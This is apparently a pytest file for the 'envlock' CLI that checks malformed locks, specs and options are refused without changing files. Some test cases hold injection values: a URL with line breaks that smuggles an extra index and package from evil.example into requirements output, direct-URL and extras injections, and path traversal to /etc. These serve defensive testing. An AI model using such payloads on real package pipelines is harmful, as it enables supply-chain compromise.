"""Malformed input for every command: a clear error (exit code, error:, hint:), no traceback,
and nothing written or changed.

Each case is run through the real CLI (in-process) against a copy of a real lock made from the
fixture indexes, so what is refused is refused by the code path users hit.
"""

from __future__ import annotations

import re
import sys
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from envlock.errors import ExitCode
from tests.conftest import Cli, assert_refused
from tests.support.indexes import StandardIndexes
from tests.test_lock_e2e import write_spec

TEN_MB = 10 * 1024 * 1024
_SHA = re.compile(r'sha256 = "[0-9a-f]{64}"')


@pytest.fixture(scope="module")
def real_lock(
    tmp_path_factory: pytest.TempPathFactory, indexes: StandardIndexes, uv_cache: Path
) -> Iterator[tuple[str, str]]:
    """(torchenv.toml text, pylock.toml text) locked from the fixture indexes."""
    from envlock.api import lock  # noqa: PLC0415

    directory = tmp_path_factory.mktemp("malformed-base")
    spec = write_spec(directory, packages='six = "*"\nnumpy = "*"')
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("ENVLOCK_PYPI_INDEX_URL", indexes.pypi_url)
        patch.setenv("ENVLOCK_PYTORCH_INDEX_URL", indexes.pytorch_url)
        patch.setenv("ENVLOCK_CACHE_DIR", str(uv_cache))
        lock(spec)
    yield spec.read_text(), (directory / "pylock.toml").read_text()


def _first_block(text: str) -> tuple[int, int]:
    start = text.index("[[packages]]")
    return start, text.index("[[packages]]", start + 1)


def _six_url_to(text: str, replacement: str) -> str:
    out, count = re.subn(r'url = "[^"]*six-1\.17\.0-py2\.py3-none-any\.whl"', replacement, text)
    assert count == 1
    return out


LOCK_CASES: dict[str, Callable[[str], str | bytes]] = {
    "toml-syntax": lambda t: t.replace("[[packages]]", "[[packages]", 1),
    "empty": lambda t: "",
    "binary-junk": lambda t: bytes(range(256)) * 64,
    "10mb-junk": lambda t: "packages = " + "x" * TEN_MB,
    "deep-nesting": lambda t: "x = " + "[" * 20_000 + "]" * 20_000,
    "wrong-type": lambda t: t.replace('lock-version = "1.0"', "lock-version = 1"),
    "unsupported-version": lambda t: t.replace('lock-version = "1.0"', 'lock-version = "2.0"'),
    "non-ascii-name": lambda t: t.replace('name = "six"', 'name = "sïx"'),
    "non-normalised-name": lambda t: t.replace('name = "filelock"', 'name = "FileLock"'),
    "duplicate-package": lambda t: (
        t[: _first_block(t)[1]] + t[slice(*_first_block(t))] + t[_first_block(t)[1] :]
    ),
    "hash-malformed": lambda t: _SHA.sub('sha256 = "zz"', t, count=1),
    "hash-wrong-length": lambda t: _SHA.sub('sha256 = "' + "a" * 63 + '"', t, count=1),
    "hash-missing": lambda t: re.sub(r", hashes = \{ sha256 = \"[0-9a-f]{64}\" \}", "", t, count=1),
    "hash-empty": lambda t: re.sub(r"hashes = \{ sha256 = \"[0-9a-f]{64}\" \}", "hashes = {}", t),
    "hash-unknown-algorithm": lambda t: re.sub(r"sha256 = (\"[0-9a-f]{64}\")", r"blake9 = \1", t),
    "path-escapes-dotdot": lambda t: _six_url_to(
        t, 'path = "../../six-1.17.0-py2.py3-none-any.whl"'
    ),
    "path-escapes-absolute": lambda t: _six_url_to(
        t, 'path = "/etc/six-1.17.0-py2.py3-none-any.whl"'
    ),
    "path-escapes-windows": lambda t: _six_url_to(
        t, 'path = "wheels\\\\..\\\\..\\\\six-1.17.0-py2.py3-none-any.whl"'
    ),
    "url-file-scheme": lambda t: _six_url_to(
        t, 'url = "file:///etc/six-1.17.0-py2.py3-none-any.whl"'
    ),
    # A line break in a URL ended the exported requirement line and started others: an extra
    # index and a package no lock entry names reached the image's requirements.txt.
    "url-line-break": lambda t: _six_url_to(
        t,
        'url = "http://127.0.0.1:9/x\\\\n--extra-index-url http://evil.example/simple\\\\n'
        'evil==1.0\\\\n/six-1.17.0-py2.py3-none-any.whl"',
    ),
    "path-space": lambda t: _six_url_to(t, 'path = "six-1.17.0-py2.py3-none-any.whl --pre"'),
}

# Every command that reads a lock; "L" is the malformed lock, outputs go to the project.
LOCK_COMMANDS: dict[str, tuple[str, ...]] = {
    "sync": ("sync", "--venv", "venv", "--lock", "L"),
    "sync-pip": ("sync", "--venv", "venv", "--lock", "L", "--installer", "pip"),
    "verify": ("verify", "--venv", "venv", "--lock", "L"),
    "export-requirements": ("export", "requirements", "--lock", "L", "-o", "out.txt"),
    "export-conda": ("export", "conda", "--lock", "L", "-o", "environment.yml"),
    "export-dockerfile": ("export", "dockerfile", "--lock", "L", "-o", "image"),
    "bundle": ("bundle", "--lock", "L", "-o", "bundle"),
    "doctor": ("doctor", "--lock", "L"),
    "diff-old-side": ("diff", "L", "pylock.toml"),
    "diff-new-side": ("diff", "pylock.toml", "L"),
}
# A lock without [tool.envlock] is valid input for every command now (issue 15;
# tests/test_foreign_locks.py runs each command on locks pip and uv wrote). diff installs
# nothing: it reads file:// URLs and paths outside the lock's directory and shows them as local;
# every installing command still refuses them.
_REVIEW = {"diff-old-side", "diff-new-side"}
ACCEPTED_BY = {
    "url-file-scheme": _REVIEW,
    "path-escapes-dotdot": _REVIEW,
    "path-escapes-absolute": _REVIEW,
}


def _snapshot(directory: Path) -> dict[str, bytes]:
    return {
        str(p.relative_to(directory)): p.read_bytes()
        for p in sorted(directory.rglob("*"))
        if p.is_file()
    }


@pytest.mark.parametrize(
    ("case", "command"),
    [
        (case, command)
        for case in sorted(LOCK_CASES)
        for command in sorted(LOCK_COMMANDS)
        if command not in ACCEPTED_BY.get(case, set())
    ],
)
def test_malformed_lock_refused_by_every_command(
    case: str, command: str, real_lock: tuple[str, str], fixture_env: Path, cli: Cli
) -> None:
    spec_text, lock_text = real_lock
    (fixture_env / "torchenv.toml").write_text(spec_text)
    (fixture_env / "pylock.toml").write_text(lock_text)
    bad = LOCK_CASES[case](lock_text)
    path = fixture_env / "L"
    path.write_bytes(bad if isinstance(bad, bytes) else bad.encode())
    before = _snapshot(fixture_env)

    result = cli(*LOCK_COMMANDS[command])

    assert_refused(result, ExitCode.MATERIALISE)
    assert _snapshot(fixture_env) == before  # nothing written, nothing changed
    assert len(result.stderr) < 4000  # a 10 MB input is not echoed back


@pytest.mark.parametrize("case", sorted(LOCK_CASES))
def test_lock_does_not_overwrite_a_damaged_lock_unless_upgrading(
    case: str, real_lock: tuple[str, str], fixture_env: Path, cli: Cli
) -> None:
    """A damaged pylock.toml (a bad merge) stops `lock` and `lock --check` with the file kept;
    `lock --upgrade`, which prefers nothing from it, replaces it."""
    spec_text, lock_text = real_lock
    (fixture_env / "torchenv.toml").write_text(spec_text)
    bad = LOCK_CASES[case](lock_text)
    lock_path = fixture_env / "pylock.toml"
    lock_path.write_bytes(bad if isinstance(bad, bytes) else bad.encode())
    before = _snapshot(fixture_env)

    for args in (("lock",), ("lock", "--check"), ("lock", "-P", "six")):
        assert_refused(cli(*args), ExitCode.MATERIALISE)
        assert _snapshot(fixture_env) == before

    assert cli("lock", "--upgrade").code == 0
    assert lock_path.read_text() == lock_text


SPEC_CASES: dict[str, Callable[[str], str | bytes]] = {
    "toml-syntax": lambda t: t.replace("[torch]", "[torch"),
    "empty": lambda t: "",
    "whitespace-only": lambda t: " \n\t\n",
    "binary-junk": lambda t: bytes(range(256)) * 64,
    "10mb-junk": lambda t: "x" * TEN_MB,
    "10mb-valid-but-huge": lambda t: t + "\n[packages.x]\nversion = '" + "1" * TEN_MB + "'\n",
    "deep-nesting": lambda t: t + "x = " + "[" * 20_000 + "]" * 20_000 + "\n",
    "wrong-type-version": lambda t: t.replace('version = "2.6"', "version = 2.6"),
    "wrong-type-platforms": lambda t: t.replace('platforms = ["linux-x86_64"]', "platforms = 1"),
    "wrong-type-package": lambda t: t + "numpy = 2\n",
    "unknown-top-key": lambda t: "bogus = 1\n" + t,
    "unknown-torch-key": lambda t: t.replace("[torch]", "[torch]\ncudaa = '12.6'"),
    "non-ascii-package": lambda t: t + '"sïx" = "*"\n',
    "package-is-direct-url": lambda t: (
        t + '"six @ https://evil.example/six-1-py3-none-any.whl" = "*"\n'
    ),
    "package-is-path": lambda t: t + '"../../evil" = "*"\n',
    "extras-injection": lambda t: (
        t + 'filelock = { version = "*", extras = ["x] @ https://evil.example/f.whl ; x"] }\n'
    ),
    "torch-in-packages": lambda t: t + 'torch = "*"\n',
    "unknown-cuda": lambda t: t.replace('cuda = "12.6"', 'cuda = "99.9"'),
    "unknown-torch": lambda t: t.replace('version = "2.6"', 'version = "9.9"'),
    "bad-specifier": lambda t: t + 'numpy = ">>2"\n',
    "bad-python": lambda t: t.replace('python = "3.11"', 'python = "3"'),
    "bad-index-url": lambda t: t + '\n[indexes]\npypi = "ftp://evil.example/simple"\n',
    "index-url-with-credentials": lambda t: (
        t + '\n[indexes]\npytorch = "https://bob:S3CRET@mirror.example/whl"\n'
    ),
    "bad-index-url-with-credentials": lambda t: (
        t + '\n[indexes]\npypi = "ftp://bob:S3CRET@mirror.example/simple"\n'
    ),
    "bad-exclude-newer": lambda t: t + '\n[resolution]\nexclude-newer = "yesterday"\n',
    "bad-variant-name": lambda t: t + '\n[variants."../../x"]\ncuda = "cpu"\n',
}


@pytest.mark.parametrize("case", sorted(SPEC_CASES))
@pytest.mark.parametrize(
    "command", [("lock",), ("lock", "--check"), ("lock", "--upgrade"), ("lock", "-P", "six")]
)
def test_malformed_spec_refused(
    case: str, command: tuple[str, ...], real_lock: tuple[str, str], fixture_env: Path, cli: Cli
) -> None:
    """Only `lock` reads torchenv.toml (every other command reads the lock): exit 3, the lock
    beside it untouched."""
    spec_text, lock_text = real_lock
    bad = SPEC_CASES[case](spec_text)
    (fixture_env / "torchenv.toml").write_bytes(bad if isinstance(bad, bytes) else bad.encode())
    (fixture_env / "pylock.toml").write_text(lock_text)
    before = _snapshot(fixture_env)

    result = cli(*command)

    assert_refused(result, ExitCode.SPEC)
    assert "S3CRET" not in result.stderr
    assert _snapshot(fixture_env) == before
    assert len(result.stderr) < 4000


INIT_CASES: dict[str, tuple[tuple[str, ...], ExitCode]] = {
    "torch-not-a-version": (("--torch", "abc"), ExitCode.USAGE),
    "torch-unknown": (("--torch", "9.9"), ExitCode.SPEC),
    "cuda-unknown": (("--cuda", "cu999"), ExitCode.SPEC),
    "cuda-junk": (("--cuda", "gpu please"), ExitCode.SPEC),
    "python-junk": (("--python", "3.x"), ExitCode.SPEC),
    "python-unsupported": (("--torch", "2.0", "--python", "3.13"), ExitCode.SPEC),
    "with-non-ascii": (("--with", "sïx"), ExitCode.USAGE),
    "with-direct-url": (("--with", "six@https://evil.example/six.whl"), ExitCode.USAGE),
    "with-path": (("--with", "../../x"), ExitCode.USAGE),
    "platform-unknown": (("--platform", "beos"), ExitCode.USAGE),
    "rocm-on-windows": (("--cuda", "rocm7.2", "--platform", "windows-x86_64"), ExitCode.SPEC),
    "path-missing-dir": (("--path", "no/such/dir/torchenv.toml"), ExitCode.USAGE),
}


@pytest.mark.parametrize("case", sorted(INIT_CASES))
def test_init_refuses_bad_options_and_writes_nothing(
    case: str, isolated_env: Path, cli: Cli
) -> None:
    args, code = INIT_CASES[case]
    result = cli("init", *args)
    assert_refused(result, code)
    assert list(isolated_env.iterdir()) == []


@pytest.mark.parametrize("case", ["toml-syntax", "binary-junk", "empty"])
def test_init_never_overwrites_an_existing_spec(case: str, isolated_env: Path, cli: Cli) -> None:
    bad = SPEC_CASES[case]("[torch]\n")
    spec = isolated_env / "torchenv.toml"
    spec.write_bytes(bad if isinstance(bad, bytes) else bad.encode())
    result = cli("init", "--cuda", "cpu")
    assert_refused(result, ExitCode.USAGE)
    assert spec.read_bytes() == (bad if isinstance(bad, bytes) else bad.encode())


def _fake_prefix(path: Path) -> None:
    """A directory with bin/python but no pyvenv.cfg: a conda env, /usr, a project."""
    (path / "bin").mkdir(parents=True)
    (path / "bin" / "python").symlink_to(Path(sys.executable))
    (path / "keep.txt").write_text("keep me\n")


VENV_TARGETS: dict[str, Callable[[Path], None]] = {
    "a-file": lambda p: p.write_text("keep me\n"),
    "a-project-folder": lambda p: (p.mkdir(), (p / "keep.txt").write_text("keep me\n")),
    "a-python-prefix": _fake_prefix,
}


@pytest.mark.parametrize("target", sorted(VENV_TARGETS))
def test_sync_never_replaces_something_that_is_not_a_venv(
    target: str, real_lock: tuple[str, str], fixture_env: Path, cli: Cli
) -> None:
    """The swap that makes sync safe would replace PATH: a file, a folder or a Python prefix
    that is not a venv is refused (verify says what it is), an empty folder is filled."""
    spec_text, lock_text = real_lock
    (fixture_env / "torchenv.toml").write_text(spec_text)
    (fixture_env / "pylock.toml").write_text(lock_text)
    path = fixture_env / "target"
    VENV_TARGETS[target](path)
    before = _snapshot(fixture_env)

    for args in (("sync", "--venv", "target"), ("sync", "--venv", "target", "--installer", "pip")):
        result = cli(*args)
        assert_refused(result, ExitCode.MATERIALISE)
        assert "is not a virtual environment" in result.stderr
    verify = cli("verify", "--venv", "target")
    if target == "a-python-prefix":  # verify reads any Python (a conda env, an image's Python)
        assert verify.code == ExitCode.CHECK_FAILED
        assert "missing" in verify.stdout
    else:
        assert_refused(verify, ExitCode.MATERIALISE)
        assert "envlock sync" not in verify.stderr  # it exists: syncing would not help
    assert _snapshot(fixture_env) == before


def test_sync_fills_an_empty_folder(
    real_lock: tuple[str, str], fixture_env: Path, cli: Cli
) -> None:
    spec_text, lock_text = real_lock
    (fixture_env / "torchenv.toml").write_text(spec_text)
    (fixture_env / "pylock.toml").write_text(lock_text)
    (fixture_env / "target").mkdir()
    assert cli("sync", "--venv", "target").code == 0
    assert cli("verify", "--venv", "target").code == 0


def test_a_project_under_a_non_ascii_path_with_spaces_works(
    real_lock: tuple[str, str], fixture_env: Path, cli: Cli, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Names are not only in files: the project folder, the venv and the outputs may be
    non-ASCII and contain spaces."""
    project = fixture_env / "проект ü 空 间"
    project.mkdir()
    monkeypatch.chdir(project)
    monkeypatch.setenv("ENVLOCK_NVIDIA_SMI", str(fixture_env / "no-nvidia-smi"))  # any host
    spec_text, _ = real_lock
    (project / "torchenv.toml").write_text(spec_text)
    for args in (
        ("lock",),
        ("lock", "--check"),
        ("sync", "--venv", "vénv ü"),
        ("sync", "--venv", "vénv pip", "--installer", "pip"),
        ("verify", "--venv", "vénv ü", "--deep"),
        ("export", "requirements", "-o", "réqs ü.txt"),
        ("export", "conda", "-o", "énv.yml"),
        ("export", "dockerfile", "-o", "ïmage dir"),
        ("bundle", "-o", "bündle dir"),
        ("sync", "--venv", "vénv offline", "--lock", "bündle dir/pylock.toml"),
        ("diff", "pylock.toml", "bündle dir/pylock.toml"),
        ("doctor",),
    ):
        result = cli(*args)
        # doctor's verdict depends on the host's driver; here only that it read everything
        assert result.code in ((0, 1) if args == ("doctor",) else (0,)), (args, result.stderr)
